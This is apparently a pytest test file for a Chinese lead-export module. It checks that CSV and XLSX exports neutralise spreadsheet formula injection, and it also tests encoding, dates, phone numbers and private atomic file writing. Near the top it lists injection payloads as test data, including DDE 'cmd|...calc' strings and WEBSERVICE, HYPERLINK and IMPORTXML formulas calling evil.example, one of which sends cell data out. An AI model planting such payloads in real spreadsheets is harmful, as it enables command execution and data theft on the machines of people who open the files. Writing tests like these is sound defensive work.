"""Tables as files: what somebody typed as a name is never a formula, and Chinese Excel reads texts, days and numbers right."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from xinheng.leads.made_files import AnotherIsMade, MadeFiles, make_private
from xinheng.leads.spreadsheets import Cell, Column, Table, write_csv, write_json, write_xlsx

FORMULAS = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://evil.example","张三")',
    'WEBSERVICE("http://evil.example/?"&A1)',
    'IMPORTXML("http://evil.example","//a")',
    "DDE(0,0,0)",
)
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "⁼", "₊")
BEFORE = (
    "\t", "\r", "\n", "\r\n", " ", "  ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u2060", "\u202e", "\x00", "\x0b",
    '"', "'", "''", "‘", "“", "`", "' ", '"\t', "\t\t", "\u2028", "\u0085",
)  # fmt: skip
PAYLOADS = (
    *(f"={formula}" for formula in FORMULAS),
    *(f"@{formula}" for formula in FORMULAS),
    *(f"{sign}1+1" for sign in SIGNS),
    *(f"{before}=1+1" for before in BEFORE),
    *(f"{before}＝1+1" for before in BEFORE[:6]),
    '";=1+1',
    'a",=1+1',
    "-2+3+cmd|' /C calc'!A0",
    "=1+1\n=2+2",
)
NAMES = (
    "张三",
    "A公司",
    "李 四",
    "5678",
    "O'Neil",
    "（张）",
    "’张",
    "王=五",
    "a@b",
    "1-2",
    "——",
    "·张",
    "%张",
    "|张",
)
"""What is no formula, and stays as it is."""

MOMENT = datetime(2026, 3, 12, 18, 30, tzinfo=UTC)
COLUMNS = (Column("name", "姓名"), Column("phone", "电话"), Column("times", "次数"), Column("at", "时间"))


def table(rows: Sequence[Sequence[Cell]], head: str = "周敏导出", tail: str = "") -> Table:
    return Table(head, COLUMNS, rows, lambda: tail)


def csv_rows(made: Table, folder: Path) -> list[list[str]]:
    write_csv(made, folder / "t.csv")
    text = (folder / "t.csv").read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_there_are_more_than_sixty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_in_a_csv_no_cell_is_a_formula(payload: str, tmp_path: Path) -> None:
    rows = csv_rows(table([[payload, payload, 1, None]], head=payload, tail=payload), tmp_path)
    assert [len(row) for row in rows] == [1, 4, 4, 1]
    for cell in (rows[0][0], rows[2][0], rows[2][1], rows[3][0]):
        assert not re.match(r"[=+\-@＝＋－＠﹦﹢﹣﹫⁼₊\t\r\n]", cell)
        assert not re.search(r"[\r\n\t]", cell)
        harmless = cell.startswith("'") or payload.startswith(('";', 'a"'))
        assert harmless, cell


@pytest.mark.parametrize("name", NAMES)
def test_in_a_csv_other_texts_stay_as_they_are(name: str, tmp_path: Path) -> None:
    assert csv_rows(table([[name, "", 1, None]]), tmp_path)[2][0] == name


def test_in_an_xlsx_no_cell_is_a_formula_and_texts_are_whole(tmp_path: Path) -> None:
    file = tmp_path / "t.xlsx"
    texts = [*PAYLOADS, *NAMES]
    write_xlsx(table([[text, text, 1, MOMENT] for text in texts], head="=1+1", tail="=2+2"), file)
    sheet = openpyxl.load_workbook(file).worksheets[0]
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("=1+1", "s")
    assert sheet.cell(len(texts) + 3, 1).data_type == "s"
    for number, text in enumerate(texts, start=3):
        for cell in (sheet.cell(number, 1), sheet.cell(number, 2)):
            assert cell.data_type == "s", text
            assert cell.hyperlink is None
            assert re.sub(r"\s", "", str(cell.value)) == re.sub(r"[\s\x00\x0b]", "", text)
    xml = zipfile.ZipFile(file).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    assert "<f " not in xml
    kinds = set(re.findall(r'<c r="[AB]\d+"[^>]*?(?: t="(\w+)")?>', xml))
    assert kinds == {"inlineStr"}


def test_excel_reads_a_csv_as_chinese(tmp_path: Path) -> None:
    write_csv(table([["张三", "138 0013 8000", 2, MOMENT]]), tmp_path / "t.csv")
    written = (tmp_path / "t.csv").read_bytes()
    assert written.startswith(b"\xef\xbb\xbf")
    assert written.count(b"\n") == written.count(b"\r\n") == 3
    text = written.decode("utf-8-sig")
    assert text.splitlines()[2] == "张三,138 0013 8000,2,2026-03-13 02:30"  # in Shanghai the next day
    assert '="' not in text


def test_excel_reads_days_numbers_and_phones_as_what_they_are(tmp_path: Path) -> None:
    write_xlsx(table([["张三", "13800138000", 2, MOMENT], ["李四", "", 1, None]]), tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").worksheets[0]
    name, phone, times, at = sheet[3]
    assert (name.value, phone.value, phone.data_type) == ("张三", "13800138000", "s")
    assert (times.value, times.data_type) == (2, "n")
    assert (at.value, at.is_date, at.number_format) == (
        datetime(2026, 3, 13, 2, 30),  # noqa: DTZ001 (a cell of Excel knows no zone)
        True,
        "yyyy-mm-dd hh:mm",
    )
    assert [cell.value for cell in sheet[4]] == ["李四", None, 1, None]
    assert [cell.value for cell in sheet[2]] == [column.heading for column in COLUMNS]
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == "A2:D4"


def test_a_program_reads_the_json(tmp_path: Path) -> None:
    write_json(table([["=1+1", "1", 2, MOMENT], ["李四", "", 1, None]], tail="少一条"), tmp_path / "t.json")
    told = json.loads((tmp_path / "t.json").read_text("utf-8"))
    assert told["about"] == "周敏导出"
    assert told["left_out"] == "少一条"
    assert told["rows"] == [
        {"name": "=1+1", "phone": "1", "times": 2, "at": "2026-03-13T02:30:00+08:00"},
        {"name": "李四", "phone": "", "times": 1, "at": None},
    ]


def breaking_off() -> Iterator[Sequence[Cell]]:
    yield ["张三", "1", 1, None]
    raise OSError(28, "No space left on device")


@pytest.mark.parametrize("write", [write_csv, write_xlsx, write_json])
def test_what_breaks_off_is_no_file_at_all(write: object, tmp_path: Path) -> None:
    made = Table("周敏导出", COLUMNS, breaking_off(), lambda: "")
    files = MadeFiles(tmp_path / "exports")
    with files.turn() as make, pytest.raises(OSError, match="No space"):
        make(made, write)  # type: ignore[arg-type]
    assert list((tmp_path / "exports").iterdir()) == []
    with pytest.raises(OSError, match="No space"):
        make_private(tmp_path / "t", Table("", COLUMNS, breaking_off(), lambda: ""), write)  # type: ignore[arg-type]
    assert not (tmp_path / "t").exists()


def test_a_made_file_has_no_name_and_one_is_made_at_a_time(tmp_path: Path) -> None:
    files = MadeFiles(tmp_path / "exports")
    with files.turn() as make:
        with pytest.raises(AnotherIsMade), files.turn():
            pass
        file = make(table([["张三", "1", 1, None]]), write_csv)
    with file:
        assert list((tmp_path / "exports").iterdir()) == []
        assert (tmp_path / "exports").stat().st_mode & 0o777 == 0o700
        assert "张三" in file.read().decode()
    with files.turn():
        pass


def test_a_file_is_for_its_owner_only_and_takes_nobodys_place(tmp_path: Path) -> None:
    file = tmp_path / "t.csv"
    make_private(file, table([]), write_csv)
    assert file.stat().st_mode & 0o777 == 0o600
    with pytest.raises(FileExistsError):
        make_private(file, table([]), write_csv)
    assert [each.name for each in tmp_path.iterdir()] == ["t.csv"]
